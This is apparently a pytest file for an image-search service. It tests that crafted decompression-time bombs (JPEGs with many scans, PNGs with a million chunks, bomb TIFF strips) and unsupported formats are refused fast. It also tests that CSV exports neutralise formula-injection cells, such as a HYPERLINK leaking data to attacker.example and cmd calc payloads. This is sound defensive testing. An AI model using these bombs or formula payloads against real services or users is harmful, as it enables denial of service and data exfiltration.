"""Hostile uploads and hostile cells: formats outside the accepted list and JPEGs with many
scans are refused before decoding (over REST, in a real service whose four decode slots stay
free for everyone else), normal progressive JPEGs still work, uploads decode at the reduced
size the model needs, and exported CSV cells cannot run as spreadsheet formulas."""
import csv
import io
import json
import os
import struct
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
import uuid
import zlib

import numpy as np
import pandas as pd
import pytest
import skimage.data
from PIL import Image, features

import imgsearch
from imgsearch.errors import BadImage
from imgsearch.pipeline.decode import Limits, decode
from imgsearch.pipeline.formats import MAX_JPEG_SCANS, jpeg_scans

needs_jp2 = pytest.mark.skipif(not features.check("jpg_2000"), reason="PIL built without OpenJPEG")


# -- real crafted files ---------------------------------------------------------------------
def _scans(data: bytes) -> list[tuple[int, int]]:
    """(start, end) of each scan of a JPEG: its SOS segment and the entropy-coded data after."""
    out, pos = [], 2
    while data[pos + 1] != 0xD9:
        end = pos + 2 + struct.unpack(">H", data[pos + 2:pos + 4])[0]
        if data[pos + 1] == 0xDA:
            while not (data[end] == 0xFF and data[end + 1] != 0 and not 0xD0 <= data[end + 1] <= 0xD7):
                end += 1
            out.append((pos, end))
        pos = end
    return out


def progressive(size=(4000, 3000), extra_scans=0, flat=True) -> bytes:
    """A progressive JPEG from PIL (libjpeg's 10-scan script); with extra_scans, its last scan
    (the luma AC refinement: a few bytes of end-of-band runs that every block must walk again)
    repeated: the decoding-time bomb."""
    if flat:
        img = Image.new("RGB", size, (128, 128, 128))
    else:
        img = Image.fromarray(skimage.data.astronaut()).resize(size)
    buf = io.BytesIO()
    img.save(buf, "JPEG", progressive=True, quality=90)
    data = buf.getvalue()
    start, end = _scans(data)[-1]
    return data[:end] + data[start:end] * extra_scans + data[end:]


def jpeg2000(size=(7000, 7000)) -> bytes:
    buf = io.BytesIO()
    Image.new("L", size, 0).save(buf, "JPEG2000")
    return buf.getvalue()


def eps() -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (64, 48), "red").save(buf, "EPS")   # saving needs no Ghostscript
    return buf.getvalue()


# -- decoding ---------------------------------------------------------------------------------
def test_crafted_scan_bomb_is_what_it_claims():
    """The bomb is a real, decodable JPEG whose cost grows with its scans: the refusal below
    is not a refusal of garbage."""
    few, many = progressive((2000, 2000), 0), progressive((2000, 2000), 100)
    assert jpeg_scans(few) == 10 and jpeg_scans(many) == 110
    big = Limits(max_jpeg_scans=10_000)
    t = time.process_time()
    decode(few, big)
    one = time.process_time() - t
    t = time.process_time()
    assert decode(many, big).image.size == (2000, 2000)
    assert time.process_time() - t > 3 * one


def test_many_scans_jp2_and_eps_are_refused_before_decoding():
    bomb = progressive((7000, 7000), 1000)          # 364 KB: ~30 s of CPU when decoded
    assert len(bomb) < 400_000
    for data, reason in ((bomb, "a JPEG with 1010 scans (the limit is 32"),
                         (eps(), "unsupported image format EPS (accepted: JPEG, PNG"),
                         *(((jpeg2000(), "unsupported image format JPEG2000"),)
                           if features.check("jpg_2000") else ())):
        t = time.process_time()
        with pytest.raises(BadImage, match=reason.replace("(", r"\(")):
            decode(data, Limits(), draft_short_side=448)
        assert time.process_time() - t < 0.2
    assert MAX_JPEG_SCANS == 32


def test_normal_progressive_and_every_accepted_format_still_decode():
    photo = Image.fromarray(skimage.data.chelsea())
    assert decode(progressive((3000, 2000), flat=False), draft_short_side=448).image.size == (750, 500)
    for fmt in ("JPEG", "PNG", "GIF", "BMP", "TIFF", "WEBP"):
        buf = io.BytesIO()
        photo.save(buf, fmt)
        assert decode(buf.getvalue()).image.size == photo.size, fmt
    # a CMYK progressive JPEG (libjpeg's script has 18 scans) is well under the limit
    buf = io.BytesIO()
    photo.convert("CMYK").save(buf, "JPEG", progressive=True)
    assert 10 < jpeg_scans(buf.getvalue()) <= MAX_JPEG_SCANS
    assert decode(buf.getvalue()).image.mode == "RGB"


def _tiff_with_jpeg_strip(jpeg: bytes, w: int, h: int) -> bytes:
    """A little-endian TIFF whose one strip is a whole JPEG stream (compression 7, YCbCr)."""
    tags = [(256, 4, w), (257, 4, h), (258, 3, None), (259, 3, 7), (262, 3, 6), (273, 4, None),
            (277, 3, 3), (278, 4, h), (279, 4, len(jpeg)), (284, 3, 1)]
    bits = 8 + 2 + 12 * len(tags) + 4
    out = bytearray(b"II*\x00" + struct.pack("<IH", 8, len(tags)))
    for tag, kind, value in tags:
        count = 3 if tag == 258 else 1
        value = bits if tag == 258 else bits + 6 if tag == 273 else value
        out += struct.pack("<HHIHH" if kind == 3 and count == 1 else "<HHII", tag, kind, count,
                           *((value, 0) if kind == 3 and count == 1 else (value,)))
    return bytes(out + struct.pack("<I3H", 0, 8, 8, 8) + jpeg)


def test_jpeg_compressed_tiff_strips_are_counted_too():
    """libtiff stops at 100 scans a strip: 99 still cost 3 s of CPU at 49 MP (measured)."""
    normal = _tiff_with_jpeg_strip(progressive((1000, 800)), 1000, 800)
    assert decode(normal).image.size == (1000, 800)
    bomb = _tiff_with_jpeg_strip(progressive((7000, 7000), 89), 7000, 7000)
    t = time.process_time()
    with pytest.raises(BadImage, match="a TIFF whose JPEG strips have up to 99 scans"):
        decode(bomb, Limits(50_000_000))
    assert time.process_time() - t < 0.2


def test_a_png_of_a_million_empty_chunks_is_refused_fast():
    """PIL reads each chunk in Python: 2.6 s of CPU for this 12 MB file before (measured)."""
    buf = io.BytesIO()
    Image.fromarray(skimage.data.coffee()).save(buf, "PNG")
    png = buf.getvalue()
    empty = struct.pack(">I", 0) + b"abCd" + struct.pack(">I", zlib.crc32(b"abCd"))
    assert decode(png[:33] + empty * 5000 + png[33:]).image.size == (600, 400)   # many is fine
    t = time.process_time()
    with pytest.raises(BadImage, match="a PNG with over 100,000 chunks"):
        decode(png[:33] + empty * 1_000_000 + png[33:])
    assert time.process_time() - t < 0.2


def test_a_scan_marker_hidden_in_a_header_segment_is_not_counted():
    """Bytes FF DA inside an APP segment (an EXIF thumbnail, say) are skipped by the walk."""
    photo = Image.fromarray(skimage.data.chelsea())
    buf = io.BytesIO()
    photo.save(buf, "JPEG", progressive=True)
    data = buf.getvalue()
    payload = b"\xff\xda" * 200
    app = b"\xff\xe5" + struct.pack(">H", len(payload) + 2) + payload
    data = data[:2] + app + data[2:]
    assert jpeg_scans(data) == 10
    assert decode(data).image.size == photo.size


def test_indexing_skips_them_with_their_reasons(tmp_path):
    src = tmp_path / "src"
    src.mkdir()
    Image.fromarray(skimage.data.coffee()).save(src / "good.jpg")
    (src / "good_progressive.jpg").write_bytes(progressive((800, 600), flat=False))
    (src / "bomb.jpg").write_bytes(progressive((2000, 2000), 200))
    (src / "figure.jpg").write_bytes(eps())                      # the name does not matter
    r = imgsearch.index_images(src, "t", model="pixels", size=8, home=tmp_path / "home",
                               workers=0, progress=False)
    assert r.indexed == 2
    reasons = {os.path.basename(s.path): s.reason for s in r.skipped}
    assert "a JPEG with 210 scans" in reasons["bomb.jpg"]
    assert "unsupported image format EPS" in reasons["figure.jpg"]


# -- uploads over REST, in a real service --------------------------------------------------------
@pytest.fixture(scope="module")
def service(tmp_path_factory):
    """`imgsearch serve` on a small photo collection; yields its URL."""
    tmp = tmp_path_factory.mktemp("trust_uploads")
    src = tmp / "photos"
    src.mkdir()
    for name in ("chelsea", "coffee", "astronaut", "rocket", "camera"):
        Image.fromarray(getattr(skimage.data, name)()).convert("RGB").save(src / f"{name}.jpg")
    home = tmp / "home"
    imgsearch.index_images(src, "p", model="pixels", size=8, home=home, workers=0, progress=False)
    env = {**os.environ, "IMGSEARCH_HOME": str(home), "IMGSEARCH_PROGRESS": "0"}
    env.pop("IMGSEARCH_API_TOKEN", None)
    proc = subprocess.Popen([sys.executable, "-m", "imgsearch", "serve", "--port", "0"], env=env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    try:
        announcement = home / ".imgsearch-service.json"
        deadline = time.time() + 120
        while not announcement.exists():
            assert proc.poll() is None, proc.stderr.read()
            assert time.time() < deadline, "the service did not start"
            time.sleep(0.2)
        yield json.loads(announcement.read_text())["url"]
    finally:
        proc.terminate()
        proc.wait(timeout=30)


def _upload(url: str, data: bytes, name: str = "q.jpg", timeout: float = 60):
    """POST /collections/p/search/image with a multipart file; (status, JSON body, seconds)."""
    boundary = uuid.uuid4().hex
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\n"
            f"Content-Type: application/octet-stream\r\n\r\n").encode() + data + \
        f"\r\n--{boundary}--\r\n".encode()
    req = urllib.request.Request(f"{url}/collections/p/search/image?k=3", data=body, method="POST",
                                 headers={"Content-Type": f"multipart/form-data; boundary={boundary}"})
    t = time.perf_counter()
    try:
        with urllib.request.urlopen(req, timeout=timeout) as r:
            status, payload = r.status, json.loads(r.read())
    except urllib.error.HTTPError as e:
        status, payload = e.code, json.loads(e.read())
    return status, payload, time.perf_counter() - t


def test_hostile_uploads_are_refused_fast_over_rest(service):
    cases = [(progressive((7000, 7000), 1000), "1010 scans"), (eps(), "format EPS")]
    if features.check("jpg_2000"):
        cases.append((jpeg2000(), "format JPEG2000"))
    for data, fragment in cases:
        status, body, seconds = _upload(service, data)
        assert status == 422 and fragment in body["detail"], body
        assert "\n" not in body["detail"] and "Traceback" not in json.dumps(body)
        assert seconds < 2.0, (fragment, seconds)


def test_normal_progressive_upload_still_finds_its_image(service):
    status, body, _ = _upload(service, progressive((2048, 2048), flat=False))
    assert status == 200, body
    assert len(body["hits"]) == 3 and body["hits"][0]["path"].endswith("astronaut.jpg")


def test_four_bombs_at_once_leave_the_decode_slots_free(service):
    """Four uploads that took all four decode slots for half a minute each before: now they
    are answered at once, and a thumbnail asked for meanwhile is not kept waiting."""
    bomb = progressive((7000, 7000), 1000)
    results = []
    threads = [threading.Thread(target=lambda: results.append(_upload(service, bomb, timeout=120)))
               for _ in range(4)]
    for t in threads:
        t.start()
    time.sleep(0.1)
    t0 = time.perf_counter()
    with urllib.request.urlopen(f"{service}/collections/p/images/1/thumbnail?size=64", timeout=120) as r:
        assert r.status == 200 and r.read()[:2] == b"\xff\xd8"
    thumb_seconds = time.perf_counter() - t0
    for t in threads:
        t.join(timeout=150)
    assert [r[0] for r in results] == [422] * 4
    assert max(r[2] for r in results) < 3.0 and thumb_seconds < 3.0, (results, thumb_seconds)


def test_uploads_decode_at_the_models_reduced_size(tmp_path, monkeypatch):
    """The REST route passes the model's draft size: a 4000x3000 JPEG is decoded at 1/8 scale
    for a model that resizes to 8 pixels (not at 12 megapixels)."""
    from fastapi.testclient import TestClient
    from imgsearch.config import Config
    from imgsearch.api.service import Service
    from imgsearch.frontends.rest.app import create_app
    from imgsearch.pipeline import decode as decode_module
    src = tmp_path / "src"
    src.mkdir()
    Image.fromarray(skimage.data.coffee()).save(src / "coffee.jpg")
    imgsearch.index_images(src, "p", model="pixels", size=8, home=tmp_path / "home", workers=0,
                           progress=False)
    sizes = []
    real = decode_module.decode

    def spy(data, limits=Limits(), draft_short_side=None):
        out = real(data, limits, draft_short_side)
        sizes.append(out.image.size)
        return out
    monkeypatch.setattr(decode_module, "decode", spy)
    svc = Service(Config.load(home=tmp_path / "home", workers=0, progress=False))
    try:
        api = TestClient(create_app(svc, token=""), raise_server_exceptions=False)
        r = api.post("/collections/p/search/image", files={"file": (
            "q.jpg", progressive((4000, 3000), flat=False), "image/jpeg")})
        assert r.status_code == 200, r.text
    finally:
        svc.close()
    assert sizes == [(500, 375)]


# -- exports: cells are data, never formulas ------------------------------------------------------
HOSTILE = ['=HYPERLINK("http://attacker.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def hostile_collection(tmp_path_factory):
    """Images whose labels, predictions, splits and imported metadata are formulas, one in a
    file whose name starts with '='; a numeric column with negative numbers."""
    tmp = tmp_path_factory.mktemp("trust_exports")
    src = tmp / "src"
    src.mkdir()
    names = ["=evil.jpg", "b.jpg", "c.jpg", "d.jpg", "e.jpg", "f.jpg", "g.jpg"]
    photo = skimage.data.astronaut()
    for i, name in enumerate(names):
        Image.fromarray(np.roll(photo, 37 * i, axis=1)).save(src / name)
    labels = pd.DataFrame({
        "path": names, "label": [*HOSTILE, "-1"], "prediction": ["-3", *HOSTILE],
        "confidence": [0.5] * 7, "split": ["=train", "train", "val", "val", "train", "val", "@x"],
        "note": ["=1+2", "plain", "-5", "+cmd", "@me", "x-y", "- a list item"],
        "weight": [-1.5, 2.0, -3.0, 0.0, 1.0, -0.25, 4.0]})
    labels.to_csv(src / "labels.csv", index=False, quoting=csv.QUOTE_NONNUMERIC)
    home = tmp / "home"
    imgsearch.index_images(src, "x", model="pixels", size=8, labels=src / "labels.csv", home=home,
                           workers=0, progress=False)
    with imgsearch.open_collection("x", home=home) as col:
        col.build_map("pca")
        yield col, src


def _formula_free(df, columns):
    for c in columns:
        for v in df[c].dropna():
            assert not (isinstance(v, str) and v[:1] in ("=", "+", "@", "\t", "\r")), (c, v)
            assert not (isinstance(v, str) and v.startswith("-") and v not in ("-1", "-3", "-5")), (c, v)


def test_metascatter_export_neutralises_formula_cells(hostile_collection, tmp_path):
    col, src = hostile_collection
    out = tmp_path / "ms.csv"
    col.export_metascatter(out, prefix=src, method="pca")
    df = pd.read_csv(out, keep_default_na=False, na_values=[""])
    _formula_free(df, ["label", "prediction", "split", "note"])
    assert set(df["label"]) == {"'" + h for h in HOSTILE} | {"-1"}   # every one kept, prefixed
    assert "'=1+2" in set(df["note"]) and "x-y" in set(df["note"]) and "'- a list item" in set(df["note"])
    assert "=evil.jpg" in set(df["Paths"])                            # paths as they are
    assert df["weight"].dtype.kind == "f" and df["weight"].min() == -3.0     # numbers stay numbers
    assert df["X-Coord"].dtype.kind == "f" and df["confidence"].dtype.kind == "f"
    sample = tmp_path / "sample.csv"
    col.export_metascatter(sample, method="pca", spelling="sample")
    df = pd.read_csv(sample, keep_default_na=False, na_values=[""])
    _formula_free(df, ["Labels", "Prediction", "split", "note"])
    assert str(src / "=evil.jpg") in set(df["Image_path"])


def test_subset_export_neutralises_too(hostile_collection, tmp_path):
    col, src = hostile_collection
    out = tmp_path / "subset.csv"
    col.export_subset(out, exclude_tag=None)
    df = pd.read_csv(out, keep_default_na=False, na_values=[""])
    _formula_free(df, ["label", "split"])
    assert str(src / "=evil.jpg") in set(df["path"]) and "'=train" in set(df["split"])
    raw = out.read_bytes().decode()   # rows end in CRLF; a lone CR stays inside its quoted cell
    assert raw.count("\r\n") == len(df) + 1 and '"\'\r=1+1"' in raw
    assert "\r\n=" not in raw and ",=" not in raw and ",+" not in raw and ",@" not in raw
